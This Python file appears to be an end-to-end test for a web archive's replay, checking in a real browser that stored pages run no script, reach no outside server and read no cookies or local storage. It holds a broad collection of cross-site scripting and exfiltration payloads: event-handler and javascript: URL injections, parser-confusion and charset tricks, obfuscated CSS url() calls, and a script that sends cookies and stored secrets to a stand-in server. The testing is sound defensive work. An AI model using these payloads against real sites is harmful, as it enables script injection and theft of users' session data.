"""Stored pages that try to reach a server on this machine, shown in replay by a real browser: nothing arrives there,
nothing runs, and nothing leads out of the archive."""

# ruff: noqa: E501 - pages

from __future__ import annotations

import asyncio
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote, urlsplit

from playwright.sync_api import Frame, Page

from evercrawl.collection.collection import open as open_collection
from tests.e2e.moved_clock import HTML, ServedSite, collection_of, served_site
from tests.web.chromium import chromium, serving

RUN = "window.pwned = 1; top.pwned = 1; fetch('{c}/fetch'); new WebSocket('{w}/socket'); new EventSource('{c}/events');"
RUN += " navigator.sendBeacon('{c}/beacon'); navigator.serviceWorker.register('/sw.js'); top.location = '{c}/top';"
RUN += " parent.postMessage(document.cookie + localStorage.secret, '*'); document.forms[0].submit(); open('{c}/open');"

PAGES: dict[str, tuple[str, str]] = {
    "/scripts": (HTML, """<script>{run}</script><script src={c}/s.js></script><script type=module>import '{c}/m.js'</script>
        <script src="data:text/javascript,{run}"></script><script type=importmap>{{"imports":{{"a":"{c}/a"}}}}</script>
        <body onload="{run}" onpageshow="{run}"><img src=x onerror="{run}"><details open ontoggle="{run}"><summary>x</details>
        <input autofocus onfocus="{run}"><marquee onstart="{run}">x</marquee><video onerror="{run}"><source></video>
        <style onload="{run}"></style><svg onload="{run}"><animate onbegin="{run}" attributeName=x dur=1s /></svg>
        <iframe srcdoc="<script>{run}</script>"></iframe><a id=x tabindex=1 onfocus="{run}" autofocus>a</a>"""),
    "/refresh": (HTML, """<meta http-equiv=refresh content="0;url={c}/refresh"><META HTTP-EQUIV=" refresh" CONTENT="0,{c}/r2">
        <noscript><meta http-equiv=refresh content="0;{c}/r3"></noscript><meta http-equiv="set-cookie" content="a=b">
        <meta http-equiv="content-security-policy" content="default-src * 'unsafe-inline'">"""),
    "/links": (HTML, """<link rel=preload as=image href={c}/l1><link rel="prefetch" href={c}/l2><link rel=preconnect href={c}>
        <link rel="dns-prefetch" href={c}><link rel=modulepreload href={c}/l3><link rel=prerender href={c}/l4>
        <link rel="shortcut icon" href={c}/l5><link rel=manifest href={c}/l6><link rel=stylesheet href={c}/l7>
        <link rel="alternate stylesheet" href="data:text/css,@import '{c}/l8'"><link rel=import href={c}/l9>
        <script type=speculationrules>{{"prerender":[{{"source":"list","urls":["{c}/l10"]}}]}}</script>"""),
    "/styles": (HTML, """<style>@import '{c}/c1'; @import url({c}/c2); @font-face{{font-family:f;src:url({c}/c3)}} p{{font-family:f}}
        b{{background:\\75rl({c}/c4)}} i{{background:image-set('{c}/c5' 1x)}} u{{--x:url({c}/c6);background:var(--x)}}
        s{{cursor:url({c}/c7),auto;content:url({c}/c8)}} em{{background:u/**/rl({c}/c9)}} q{{mask:url({c}/c10#m)}}</style>
        <p style="background:url('{c}/c11')">p<b>b</b><i>i</i><u>u</u><s>s</s><em>e</em><q>q</q>
        <svg><style>text{{fill:url({c}/c12#a)}}</style><text filter="url({c}/c13#f)">t</text></svg>"""),
    "/media": (HTML, """<base href="{c}/"><img src=i1><img src={c}/i2 srcset="{c}/i3 1x, {c}/i4 2x"><picture><source srcset={c}/i5><img></picture>
        <video src={c}/i6 poster={c}/i7 autoplay><track default src={c}/i8></video><audio src={c}/i9 autoplay></audio>
        <embed src={c}/i10><object data={c}/i11></object><iframe src={c}/i12></iframe><input type=image src={c}/i13>
        <table background={c}/i14><td background={c}/i15>x</table><svg><image href={c}/i16 /><use href="{c}/i17#a"/>
        <filter><feImage href="{c}/i18"/></filter></svg><portal src={c}/i19></portal><applet code={c}/i20></applet>
        <bgsound src={c}/i21><img src="//{h}/i22"><img src="/\\\\{h}/i23"><img src=" h\nttp://{h}/i24" lowsrc={c}/i25>"""),
    "/frameset": (HTML, "<frameset onload='{run}'><frame src={c}/f1><frame src='javascript:{run}'></frameset>"),
    "/forms": (HTML, """<form action={c}/form method=post><button id=b1>a</button><button id=b2 formaction="javascript:{run}">b</button>
        <input type=submit id=b3 formaction={c}/f2 formtarget=_top></form><isindex action={c}/f3>"""),
    "/anchors": (HTML, """<a href="javascript:{run}">a</a> <a href=" &#1;java&#10;script:{run}">b</a> <a href="{c}/a1" ping="{c}/a2">c</a>
        <a href="{c}/a3" target=_top>d</a> <a href="data:text/html,<script>{run}</script>">e</a> <a href="//{h}/a4" download>f</a>
        <svg><a xlink:href="javascript:{run}"><text y=9>g</text></a></svg> <map><area href={c}/a5></map> <a href="blob:{c}/x">h</a>
        <math><mrow href="javascript:{run}"><mtext>i</mtext></mrow></math>"""),
    "/parsers": (HTML, """<noscript><p title="</noscript><img src=x onerror='{run}'>"></noscript><!--><img src={c}/p1 onerror="{run}">-->
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={c}/p2 onerror='{run}'&gt;"></table></mtext></math>
        <svg><style><img src={c}/p3 onerror="{run}"></style><![CDATA[><script>{run}</script>]]></svg><xmp><p title="</xmp><img src={c}/p4>">
        <div><template shadowrootmode=open><img src={c}/p5 onerror="{run}"><script>{run}</script></template></div>
        <form><math><mtext></form><form><mglyph><style></math><img src={c}/p6 onerror="{run}"><select><template><style></select>
        <img src={c}/p7><title><p id="</title><script>{run}</script>"></title><textarea></textarea><plaintext><img src={c}/p8>"""),
    "/utf7": ("text/html; charset=utf-7", "+ADw-script+AD4-{run}+ADw-/script+AD4- <p>+ADw-img src={c}/u1+AD4-"),
    "/iso2022": ("text/html; charset=iso-2022-jp", "<p title='\x1b$B'>\x1b(B<img src={c}/j1 onerror=\"{run}\">'>"),
    "/late": ("text/html", "<!--" + "x" * 2000 + "--><meta charset=utf-16><script>{run}</script><img src={c}/k1>"),
    "/xhtml": ("application/xhtml+xml", """<?xml-stylesheet href="{c}/x1"?><html xmlns="http://www.w3.org/1999/xhtml"><body>
        <script>{run}</script><img src="{c}/x2" onerror="{run}"/><x:script xmlns:x="http://www.w3.org/1999/xhtml">{run}</x:script>
        </body></html>"""),
    "/svg": ("image/svg+xml", """<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script>
        <image href="{c}/v1"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{c}/v2"/></body>
        </foreignObject></svg>"""),
    "/xml": ("text/xml", '<?xml-stylesheet type="text/xsl" href="{c}/y1"?><!DOCTYPE a SYSTEM "{c}/y2"><a>b</a>'),
    "/plain": ("text/plain", "<html><script>{run}</script><img src={c}/z1>"),
}  # fmt: skip


class Canary(socketserver.ThreadingTCPServer):
    """Notes every connection; a connection alone is already too much."""

    daemon_threads = True

    def __init__(self) -> None:
        self.seen: list[str] = []
        canary = self

        class Handler(socketserver.StreamRequestHandler):
            timeout = 5

            def handle(self) -> None:
                canary.seen.append("connected")
                canary.seen.append(self.rfile.readline(200).decode("latin-1").strip())

        super().__init__(("127.0.0.1", 0), Handler)


@contextmanager
def canary() -> Iterator[Canary]:
    with Canary() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def store(site: ServedSite, folder: Path, host: str) -> None:
    """Crawl every page, and nothing else."""
    words = {"c": f"http://{host}", "w": f"ws://{host}", "h": host}
    words["run"] = RUN.format(**words)
    for path, (kind, text) in PAGES.items():
        site.files[path] = kind, text.format(**words)
    collection = collection_of(site, folder, policy="optimal")
    scope = replace(
        collection.settings.scope,
        kind="list",
        seeds=tuple(site.base + path for path in PAGES),
        media_types=("*/*",),
        fetch_types=("image",),
    )
    render = replace(collection.settings.render, mode="never")
    collection = open_collection(folder, settings=replace(collection.settings, scope=scope, render=render))
    asyncio.run(collection.crawl())


def test_stored_pages_reach_nobody(tmp_path: Path) -> None:
    with canary() as server, served_site() as site:
        store(site, tmp_path / "c.evercrawl", f"127.0.0.1:{server.server_address[1]}")
        server.seen.clear()  # A refresh is followed like a redirect.
        with serving(tmp_path / "c.evercrawl") as served, chromium() as browser:
            context = browser.new_context()
            page = context.new_page()
            page.goto(served.first_link)
            page.evaluate("localStorage.secret = 'ours'")
            page.goto(f"{served.address}/show?url={quote(site.base + '/scripts', safe='')}")
            assert page.evaluate("window.pwned") is None
            (frame,) = (frame for frame in page.frames if frame.url.startswith(served.replay))
            check(frame, "in the interface")
            prefix = frame.url.removesuffix("/scripts")
            for path in PAGES:
                look_at(page, prefix + path)
            raw = prefix.replace("/http://", "id_/http://") + "/links"
            look_at(page, raw)
            assert page.context.cookies(served.replay) == []
            assert len(context.pages) == 1, "no page opened another"
            context.close()
        assert server.seen == []


def look_at(page: Page, url: str) -> None:
    """Show a stored page; look where its links lead, and send its forms."""
    answer = page.goto(url)
    assert answer is not None
    assert answer.status == 200, url
    shown = answer.url  # A capture of another second has another date in its address.
    assert shown.partition("/http://")[2] == url.partition("/http://")[2]
    check(page.main_frame, url)
    for link in page.evaluate("[...document.querySelectorAll('a[href], area[href]')].map(e => e.href)"):
        assert urlsplit(link).netloc == urlsplit(url).netloc, url
    for button in page.locator("button, input[type=submit]").all():
        button.click()
    assert page.url == shown


def check(frame: Frame, url: str) -> None:
    """Nothing ran, and what is shown has an origin of its own."""
    assert frame.evaluate("window.pwned") is None, url
    assert frame.evaluate("self.origin") == "null", url
    for secret in ("localStorage.secret", "document.cookie"):
        assert frame.evaluate(f"(() => {{ try {{ return {secret} }} catch {{ return 'denied' }} }})()") == "denied", url
